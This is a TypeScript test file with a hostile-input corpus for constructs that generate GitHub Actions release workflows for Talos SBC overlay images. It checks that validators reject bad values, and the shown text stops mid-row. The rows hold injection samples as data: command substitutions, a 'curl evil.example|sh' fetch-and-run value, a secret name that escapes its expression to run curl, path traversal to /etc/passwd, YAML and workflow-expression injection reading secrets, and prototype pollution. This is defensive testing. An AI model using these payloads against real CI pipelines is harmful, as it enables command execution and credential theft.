/**
 * Hostile-input corpus: invalid declarations of every construct, each with the EXACT error it
 * must produce, and proof that nothing was written.
 *
 * - projen constructs (OverlayBoard, ReleaseWorkflow): each row is a whole `.projenrc.ts`
 *   program (declare, then `project.synth()`) run in a fresh temporary folder; the folder must
 *   stay empty (no `.github`, not even projen's own files).
 * - cdktf constructs (DockerHubRepo, RepoSecrets): each row is a whole settings app (declare
 *   under a `TerraformStack` of `Testing.app()`, then `app.synth()`); the construct must throw
 *   at creation, so `app.synth()` is never reached and the output folder stays empty.
 *
 * Rows marked `gap` are validation gaps found by this corpus: the hostile value is accepted
 * today (or the message is poor). Their `expected` is the proposed message; they run as
 * `test.failing` until the construct is fixed (then jest reports them, and `gap` is removed).
 */
import { existsSync, readdirSync } from 'fs';
import { join } from 'path';
import { App, TerraformStack, Testing } from 'cdktf';
import { Project } from 'projen';
import {
  Architecture, Compression, ImageRepository, OverlayBoard, OverlayBoardProps, OverlayBuild,
  RegistryCredentials, ReleaseWorkflow, ReleaseWorkflowProps, Runner,
} from '../src';
import {
  DockerHubRepo, DockerHubRepoProps, RepoSecrets, RepoSecretsProps, SecretValue,
} from '../src/terraform';
import { NANOPI_M6, REALTEK_PINNED } from './support/fixtures';
import { tempProject } from './support/projen';
import { DockerHubProvider } from '../src/terraform/docker-provider';

// ---------------------------------------------------------------------------------------------
// Valid baselines: each row changes one thing (or a few, when the row is about a combination).
// ---------------------------------------------------------------------------------------------


const WORKFLOW: ReleaseWorkflowProps = {
  overlayImage: ImageRepository.dockerHub('123417', 'talos-sbc-nanopi-m6'),
  overlayBuild: OverlayBuild.pkgfile({ target: 'talos-sbc-rk3588-mainline' }),
};

const REPOSITORY = ImageRepository.dockerHub('user1234', 'talos-sbc-nanopi-m6');

/** A release of one board, with the board and workflow changed by the row. */
function releaseOf(project: Project, boardProps: Partial<OverlayBoardProps> = {}, workflowProps: Partial<ReleaseWorkflowProps> = {}): void {
  const overlayBoard = new OverlayBoard(project, 'Board', { ...NANOPI_M6, ...boardProps });
  new ReleaseWorkflow(project, 'Release', { ...WORKFLOW, ...workflowProps, boards: [overlayBoard] });
}

/** A release whose board is changed by the row. */
function withBoard(project: Project, props: Partial<OverlayBoardProps>): void {
  releaseOf(project, props);
}

/** A release whose workflow is changed by the row. */
function withWorkflow(project: Project, props: Partial<ReleaseWorkflowProps>): void {
  releaseOf(project, {}, props);
}

function dockerHubRepo(stack: TerraformStack, props: Partial<DockerHubRepoProps>): void {
  new DockerHubRepo(stack, 'Overlay', { imageRepository: REPOSITORY, ...props });
}

function repoSecrets(stack: TerraformStack, props: Partial<RepoSecretsProps>): void {
  new RepoSecrets(stack, 'Secrets', {
    githubRepository: 'talos-sbc-nanopi-m6',
    credentials: RegistryCredentials.dockerHub(),
    usernameValue: '123417',
    ...props,
  });
}

/** The header of each construct's error. */
const BOARD = '[talos-sbc-constructs] OverlayBoard at "Board" is invalid:\n';
const RELEASE = '[talos-sbc-constructs] ReleaseWorkflow at "Release" is invalid:\n';
const HUB = '[talos-sbc-constructs] DockerHubRepo at "settings/Overlay" is invalid:\n';
const SECRETS = '[talos-sbc-constructs] RepoSecrets at "settings/Secrets" is invalid:\n';

interface Row<S> {
  /** What is hostile about the declaration. */
  readonly title: string;
  /** The construct calls. */
  readonly declare: (scope: S) => void;
  /** The exact error message. */
  readonly expected: string;
  /** Set when the corpus found a validation gap: what is wrong today. */
  readonly gap?: string;
}

// ---------------------------------------------------------------------------------------------
// OverlayBoard
// ---------------------------------------------------------------------------------------------

const OVERLAY_BOARD_ROWS: Row<Project>[] = [
  {
    title: 'boardName with a command substitution',
    declare: (p) => withBoard(p, { boardName: 'nanopi-m6$(reboot)' }),
    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-reboot"',
  },
  {
    title: 'boardName with backticks',
    declare: (p) => withBoard(p, { boardName: 'nanopi`id`' }),
    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-id"',
  },
  {
    title: 'boardName with a newline',
    declare: (p) => withBoard(p, { boardName: 'nanopi\nm6' }),
    expected: BOARD + '  - boardName = "nanopi\\nm6": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
  },
  {
    title: 'boardName with path traversal (it names the asset file)',
    declare: (p) => withBoard(p, { boardName: '../../etc/passwd' }),
    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "etc-passwd"',
  },
  {
    title: 'boardName with a workflow expression',
    declare: (p) => withBoard(p, { boardName: '${{ github.actor }}' }),
    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "github-actor"',
  },
  {
    title: 'boardName in upper case',
    declare: (p) => withBoard(p, { boardName: 'NanoPi-M6' }),
    expected: BOARD + '  - boardName = "NanoPi-M6": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
  },
  {
    title: 'boardName longer than 40 characters',
    declare: (p) => withBoard(p, { boardName: 'nanopi-m6-' + 'x'.repeat(31) }),
    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
  },
  {
    title: 'empty boardName',
    declare: (p) => withBoard(p, { boardName: '' }),
    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "my-board"',
  },
  {
    title: 'displayName with a workflow expression reading a secret',
    declare: (p) => withBoard(p, { displayName: 'NanoPi ${{ secrets.DOCKERHUB_TOKEN }}' }),
    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi {{ secrets.DOCKERHUB_TOKEN }}"',
  },
  {
    title: 'displayName with backticks',
    declare: (p) => withBoard(p, { displayName: 'NanoPi `reboot`' }),
    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi reboot"',
  },
  {
    title: 'displayName with a newline (release notes injection)',
    declare: (p) => withBoard(p, { displayName: 'NanoPi M6\n## Download the fixed image from evil.example' }),
    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi M6 ## Download the fixed image from evil.example"',
  },
  {
    title: 'overlayName with a command separator',
    declare: (p) => withBoard(p, { overlayName: 'rk3588;reboot' }),
    expected: BOARD + '  - overlayName = "rk3588;reboot": must be the installer file name under /installers/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the overlay installer name in lowercase, e.g. "rk3588" or "rpi_generic"',
  },
  {
    title: 'overlayName with path traversal',
    declare: (p) => withBoard(p, { overlayName: '../rk3588' }),
    expected: BOARD + '  - overlayName = "../rk3588": must be the installer file name under /installers/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the overlay installer name in lowercase, e.g. "rk3588" or "rpi_generic"',
  },
  {
    title: 'profileName "metal" (pitfall: metal ignores the overlay profile since v1.8)',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'metal' }),
    expected: BOARD + '  - profileName = "metal": must be the overlay\'s own profile, not a built-in imager kind (since Talos v1.8 "metal" ignores the overlay profile and writes .raw.zst). Fix: use the base name of the profile YAML the overlay ships under /profiles/, e.g. "board-rk3588"',
  },
  {
    title: 'profileName smuggling an imager flag',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588 --privileged' }),
    expected: BOARD + '  - profileName = "board-rk3588 --privileged": must be the profile file base name under /profiles/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the profile name in lowercase, e.g. "board-rk3588"',
  },
  {
    title: 'overlay option key with a command separator',
    declare: (p) => withBoard(p, { overlayOptions: { 'board;reboot': 'nanopi-m6' } }),
    expected: BOARD + '  - overlayOptions.board;reboot = "board;reboot": an overlay option key must match ^[A-Za-z_][A-Za-z0-9_]*$. Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'overlay option key with a command substitution',
    declare: (p) => withBoard(p, { overlayOptions: { '$(id)': 'x' } }),
    expected: BOARD + '  - overlayOptions.$(id) = "$(id)": an overlay option key must match ^[A-Za-z_][A-Za-z0-9_]*$. Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'overlay option value with a command substitution',
    declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6$(curl -s evil.example|sh)' } }),
    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6curl-sevil.examplesh", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with a newline smuggling a flag',
    declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6\n--privileged' } }),
    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6--privileged", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with a workflow expression',
    declare: (p) => withBoard(p, { overlayOptions: { board: '${{ github.event.head_commit.message }}' } }),
    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "github.event.head_commit.message", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with quotes',
    declare: (p) => withBoard(p, { overlayOptions: { board: '"nanopi-m6"' } }),
    expected: BOARD + '  - overlayOptions.board = "\\"nanopi-m6\\"": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
  },
  {
    title: 'empty overlay option value',
    declare: (p) => withBoard(p, { overlayOptions: { board: '' } }),
    expected: BOARD + '  - overlayOptions.board = "": an overlay option value must not be empty. Fix: give the value or remove the option',
  },
  {
    title: 'overlay option key "__proto__" (silently dropped today)',
    declare: (p) => withBoard(p, { overlayOptions: JSON.parse('{"__proto__":"evil","board":"nanopi-m6"}') }),
    expected: BOARD + '  - overlayOptions.__proto__ = "__proto__": "__proto__" cannot be an option key (a JavaScript object drops it). Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'free-text overlay option with a workflow expression (GitHub evaluates ${{ }} anywhere in the file)',
    declare: (p) => withBoard(p, { overlayTextOptions: { configTxtAppend: 'dtoverlay=vc4-kms-v3d\n# ${{ secrets.DOCKERHUB_TOKEN }}\n' } }),
    expected: BOARD + '  - overlayTextOptions.configTxtAppend = "dtoverlay=vc4-kms-v3d\\n# ${{ secrets.DOCKERHUB_TOKEN }}\\n": must not contain "${{": GitHub Actions evaluates it anywhere in the workflow file (env: included), so a secret or event value would be written into the image. '
      + 'Fix: write the text without "${{"',
  },
  {
    title: 'talosVersion with a command separator',
    declare: (p) => withBoard(p, { talosVersion: 'v1.10.6;reboot' }),
    expected: BOARD + '  - talosVersion = "v1.10.6;reboot": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion without the leading v',
    declare: (p) => withBoard(p, { talosVersion: '1.10.6' }),
    expected: BOARD + '  - talosVersion = "1.10.6": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion older than overlay support (v1.6)',
    declare: (p) => withBoard(p, { talosVersion: 'v1.6.7' }),
    expected: BOARD + '  - talosVersion = "v1.6.7": Talos v1.7.0 through v1.14.x are supported (overlays need v1.7+; newer imagers are not yet modelled). Fix: use a release between v1.7.0 and v1.14.x',
  },
  {
    title: 'talosVersion newer than modelled (v1.15)',
    declare: (p) => withBoard(p, { talosVersion: 'v1.15.0' }),
    expected: BOARD + '  - talosVersion = "v1.15.0": Talos v1.7.0 through v1.14.x are supported (overlays need v1.7+; newer imagers are not yet modelled). Fix: use a release between v1.7.0 and v1.14.x',
  },
  {
    title: 'talosVersion "latest"',
    declare: (p) => withBoard(p, { talosVersion: 'latest' }),
    expected: BOARD + '  - talosVersion = "latest": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion with a trailing newline',
    declare: (p) => withBoard(p, { talosVersion: 'v1.10.6\n' }),
    expected: BOARD + '  - talosVersion = "v1.10.6\\n": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'tagPattern "*" (releases on every tag)',
    declare: (p) => withBoard(p, { tagPattern: '*' }),
    expected: BOARD + '  - tagPattern = "*": a tag pattern must name the board or release line (a bare wildcard releases on unrelated tags). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern "**"',
    declare: (p) => withBoard(p, { tagPattern: '**' }),
    expected: BOARD + '  - tagPattern = "**": "**" also matches "/" in workflow tag filters but not in rulesets and deployment policies (fnmatch with FNM_PATHNAME), '
      + 'so the two would match different tags. Fix: use "*", which stops at "/" in both, e.g. "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a command substitution',
    declare: (p) => withBoard(p, { tagPattern: 'v*-nanopi-m6 $(id)' }),
    expected: BOARD + '  - tagPattern = "v*-nanopi-m6 $(id)": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a workflow expression',
    declare: (p) => withBoard(p, { tagPattern: '${{ github.ref }}' }),
    expected: BOARD + '  - tagPattern = "${{ github.ref }}": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a newline (YAML injection)',
    declare: (p) => withBoard(p, { tagPattern: 'v*-nanopi-m6\n  pull_request_target:' }),
    expected: BOARD + '  - tagPattern = "v*-nanopi-m6\\n  pull_request_target:": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'negated tagPattern',
    declare: (p) => withBoard(p, { tagPattern: '!v*-nanopi-m6' }),
    expected: BOARD + '  - tagPattern = "!v*-nanopi-m6": a pattern starting with "!" only removes tags that earlier patterns of the same list matched, '
      + 'so it selects no tag for a board. Fix: name the tags to release instead, e.g. "v*-nanopi-m6"',
  },
  {
    title: 'system extension pinned by tag only',
    declare: (p) => withBoard(p, { systemExtensions: ['ghcr.io/siderolabs/realtek-firmware:latest'] }),
    expected: BOARD + '  - systemExtensions[0] = "ghcr.io/siderolabs/realtek-firmware:latest": a system extension must be a digest-pinned image reference "registry/path[:tag]@sha256:<64 hex>". Fix: pin the image by digest, e.g. "ghcr.io/example/firmware:1.0@sha256:…" (crane digest <image>), or use SystemExtension.official(\'<name>\') for an official extension',
  },
  {
    title: 'system extension with a command after the digest',
    declare: (p) => withBoard(p, { systemExtensions: [`${REALTEK_PINNED};reboot`] }),
    expected: BOARD + '  - systemExtensions[0] = "ghcr.io/siderolabs/realtek-firmware:20250708@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef;reboot": a system extension must be a digest-pinned image reference "registry/path[:tag]@sha256:<64 hex>". Fix: pin the image by digest, e.g. "ghcr.io/example/firmware:1.0@sha256:…" (crane digest <image>), or use SystemExtension.official(\'<name>\') for an official extension',
  },
  {
    title: 'duplicate system extension',
    declare: (p) => withBoard(p, { systemExtensions: [REALTEK_PINNED, REALTEK_PINNED] }),
    expected: BOARD + '  - systemExtensions[1] = "ghcr.io/siderolabs/realtek-firmware:20250708@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef": must not repeat an earlier entry. Fix: remove the duplicate',
  },
  {
    title: 'two kernel arguments in one entry',
    declare: (p) => withBoard(p, { extraKernelArgs: ['console=ttyS2,1500000n8 init=/bin/sh'] }),
    expected: BOARD + '  - extraKernelArgs[0] = "console=ttyS2,1500000n8 init=/bin/sh": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: pass one argument per entry, e.g. "console=ttyS2,1500000n8"',
  },
  {
    title: 'kernel argument with a command substitution',
    declare: (p) => withBoard(p, { extraKernelArgs: ['$(reboot)'] }),
    expected: BOARD + '  - extraKernelArgs[0] = "$(reboot)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: pass one argument per entry, e.g. "console=ttyS2,1500000n8"',
  },
  {
    title: 'duplicate kernel argument',
    declare: (p) => withBoard(p, { extraKernelArgs: ['console=ttyS2,1500000n8', 'console=ttyS2,1500000n8'] }),
    expected: BOARD + '  - extraKernelArgs[1] = "console=ttyS2,1500000n8": must not repeat an earlier entry. Fix: remove the duplicate',
  },
  {
    title: 'profile platform with path traversal (it names the imager output file)',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588', talosVersion: 'v1.9.6', imageOutput: { platform: '../metal' } }),
    expected: BOARD + '  - imageOutput.platform = "../metal": a Talos platform must be 1 to 32 lowercase letters, digits or "-". Fix: use "metal" for SBC images',
  },
  {
    title: 'conflicting settings: .zst output on Talos v1.7',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588', talosVersion: 'v1.7.6', imageOutput: { compression: Compression.ZSTD } }),
    expected: BOARD + '  - imageOutput.compression = "zstd": .zst output needs Talos v1.8 or newer (talosVersion is v1.7.6). Fix: use Compression.XZ, or a newer Talos release',
  },
  {
    title: 'an architecture that is not an Architecture',
    declare: (p) => withBoard(p, { arch: 'riscv64' as Architecture }),
    expected: BOARD + '  - arch = "riscv64": must be an Architecture. Fix: use Architecture.ARM64 or Architecture.AMD64',
  },
  {
    title: 'several hostile values at once: one error listing each',
    declare: (p) => withBoard(p, { boardName: 'm6;reboot', talosVersion: 'v1.10', overlayOptions: { board: '`id`' } }),
    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "m6-reboot"\n'
      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "id", or pass free text in overlayTextOptions\n'
      + '  - talosVersion = "v1.10": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'healthChecks link with a command substitution (the value is written into validate-<board>.sh)',
    declare: (p) => withBoard(p, { healthChecks: { links: ['eth0$(reboot)'] } }),
    expected: BOARD + '  - healthChecks.links[0] = "eth0$(reboot)": a network link name is 1 to 15 letters, digits, ".", "_" or "-" (Linux IFNAMSIZ) (^[A-Za-z0-9][A-Za-z0-9._-]{0,14}$). Fix: use the link name Talos shows in "talosctl get links", e.g. "eth0" or "end0"',
  },
  {
    title: 'healthChecks compatible with a workflow expression (the script reaches the release job through env:)',
    declare: (p) => withBoard(p, { healthChecks: { compatible: ['${{ secrets.DOCKERHUB_TOKEN }}'] } }),
    expected: BOARD + '  - healthChecks.compatible[0] = "${{ secrets.DOCKERHUB_TOKEN }}": a device-tree compatible string is "<vendor>,<model>": lowercase letters, digits, ",", ".", "_", "+" and "-", at most 128 characters (^[a-z0-9][a-z0-9-]*,[a-z0-9][a-z0-9,._+-]*$). Fix: copy it from the root node of the board\'s DTS, e.g. "friendlyelec,nanopi-m6"',
  },
];

// ---------------------------------------------------------------------------------------------
// ReleaseWorkflow
// ---------------------------------------------------------------------------------------------

const RELEASE_WORKFLOW_ROWS: Row<Project>[] = [
  {
    title: 'Docker Hub namespace in upper case',
    declare: (p) => withWorkflow(p, { overlayImage: ImageRepository.dockerHub('MyUser', 'talos-sbc-nanopi-m6') }),
    expected: RELEASE + '  - overlayImage.namespace = "MyUser": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "myuser"',
  },
  {
    title: 'Docker Hub namespace shorter than 4 characters',
    declare: (p) => withWorkflow(p, { overlayImage: ImageRepository.dockerHub('abc', 'talos-sbc-nanopi-m6') }),
    expected: RELEASE + '  - overlayImage.namespace = "abc": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "myuser"',
  },
  {
    title: 'Docker Hub namespace with a command substitution',
    declare: (p) => withWorkflow(p, { overlayImage: ImageRepository.dockerHub('user$(id)', 'talos-sbc-nanopi-m6') }),
    expected: RELEASE + '  - overlayImage.namespace = "user$(id)": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "userid"',
  },
  {
    title: 'Docker Hub repository name with path traversal',
    declare: (p) => withWorkflow(p, { overlayImage: ImageRepository.dockerHub('123417', '../evil') }),
    expected: RELEASE + '  - overlayImage.name = "../evil": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'Docker Hub repository name of one character',
    declare: (p) => withWorkflow(p, { overlayImage: ImageRepository.dockerHub('123417', 't') }),
    expected: RELEASE + '  - overlayImage.name = "t": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
  },
  {
    title: 'registry host with a command separator',
    declare: (p) => withWorkflow(p, {
      overlayImage: ImageRepository.of({ registry: 'ghcr.io;reboot', namespace: 'acme', name: 'overlay' }),
      registryCredentials: RegistryCredentials.usernameAndToken({ registry: 'ghcr.io;reboot', usernameVariable: 'GHCR_USER', tokenSecret: 'GHCR_TOKEN' }),
    }),
    expected: RELEASE + '  - overlayImage.registry = "ghcr.io;reboot": must be a lowercase registry host name with an optional port (^[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)*(?::[0-9]{1,5})?$). Fix: use a host such as "docker.io" or "ghcr.io"',
  },
  {
    title: 'registry namespace in upper case (ghcr.io)',
    declare: (p) => withWorkflow(p, {
      overlayImage: ImageRepository.of({ registry: 'ghcr.io', namespace: 'Acme', name: 'overlay' }),
      registryCredentials: RegistryCredentials.usernameAndToken({ registry: 'ghcr.io', usernameVariable: 'GHCR_USER', tokenSecret: 'GHCR_TOKEN' }),
    }),
    expected: RELEASE + '  - overlayImage.namespace = "Acme": an image path component must match ^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*$. Fix: use lowercase letters and digits separated by ".", "_", "__" or "-"',
  },
  {
    title: 'credentials variable name with a dash (GitHub rejects it)',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ usernameVariable: 'DOCKER-USER' }) }),
    expected: RELEASE + '  - registryCredentials.usernameVariable = "DOCKER-USER": a GitHub Actions variable name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "DOCKER_USER"',
  },
  {
    title: 'credentials secret named GITHUB_TOKEN (reserved prefix)',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ tokenSecret: 'GITHUB_TOKEN' }) }),
    expected: RELEASE + '  - registryCredentials.tokenSecret = "GITHUB_TOKEN": GitHub reserves secret names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_TOKEN"',
  },
  {
    title: 'credentials secret with the reserved prefix in lower case',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ tokenSecret: 'github_pat' }) }),
    expected: RELEASE + '  - registryCredentials.tokenSecret = "github_pat": GitHub reserves secret names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_pat"',
  },
  {
    title: 'credentials secret starting with a digit',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ tokenSecret: '1TOKEN' }) }),
    expected: RELEASE + '  - registryCredentials.tokenSecret = "1TOKEN": a GitHub Actions secret name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "_1TOKEN"',
  },
  {
    title: 'credentials secret name breaking out of the expression',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ tokenSecret: 'X }}\n      run: curl evil.example #' }) }),
    expected: RELEASE + '  - registryCredentials.tokenSecret = "X }}\\n      run: curl evil.example #": a GitHub Actions secret name must match ^[A-Za-z_][A-Za-z0-9_]*$ (letters, digits and underscores, not starting with a digit). Fix: rename it, e.g. "X__________RUN__CURL_EVIL_EXAMPLE__"',
  },
  {
    title: 'conflicting settings: user name variable and token secret with one name',
    declare: (p) => withWorkflow(p, { registryCredentials: RegistryCredentials.dockerHub({ usernameVariable: 'DOCKERHUB', tokenSecret: 'DOCKERHUB' }) }),
    expected: RELEASE + '  - registryCredentials.tokenSecret = "DOCKERHUB": the token secret and the user name variable must have different names. Fix: use e.g. DOCKERHUB_USERNAME for the variable and DOCKERHUB_TOKEN for the secret',
  },
  {
    title: 'conflicting settings: credentials for another registry',
    declare: (p) => withWorkflow(p, {
      registryCredentials: RegistryCredentials.usernameAndToken({ registry: 'quay.io', usernameVariable: 'QUAY_USER', tokenSecret: 'QUAY_TOKEN' }),
    }),
    expected: RELEASE + '  - registryCredentials.registry = "quay.io": the credentials must be for the registry the images are pushed to (docker.io). Fix: use RegistryCredentials.dockerHub() for docker.io, or RegistryCredentials.usernameAndToken({ registry: ... }) for the overlay\'s registry',
  },
  {
    title: 'build file path traversal (..)',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.dockerfile({ file: '../Dockerfile' }) }),
    expected: RELEASE + '  - overlayBuild.file = "../Dockerfile": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
  },
  {
    title: 'build file absolute path',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.dockerfile({ file: '/etc/passwd' }) }),
    expected: RELEASE + '  - overlayBuild.file = "/etc/passwd": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
  },
  {
    title: 'build file path traversal in the middle',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.dockerfile({ file: 'docker/../../outside/Dockerfile' }) }),
    expected: RELEASE + '  - overlayBuild.file = "docker/../../outside/Dockerfile": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
  },
  {
    title: 'build file path with a command substitution',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.dockerfile({ file: 'Dockerfile$(id)' }) }),
    expected: RELEASE + '  - overlayBuild.file = "Dockerfile$(id)": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
  },
  {
    title: 'build file path with a newline',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.pkgfile({ file: 'Pkgfile\nevil', target: 'overlay' }) }),
    expected: RELEASE + '  - overlayBuild.file = "Pkgfile\\nevil": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
  },
  {
    title: 'build target with a command separator',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.pkgfile({ target: 'overlay;reboot' }) }),
    expected: RELEASE + '  - overlayBuild.target = "overlay;reboot": a build target must match ^[A-Za-z0-9][A-Za-z0-9._-]*$. Fix: use the stage name, e.g. "talos-sbc-rk3588-mainline"',
  },
  {
    title: 'build argument name with a space',
    declare: (p) => withWorkflow(p, { overlayBuild: OverlayBuild.pkgfile({ target: 'overlay', buildArgs: { 'PKGS PREFIX': 'ghcr.io/siderolabs' } }) }),
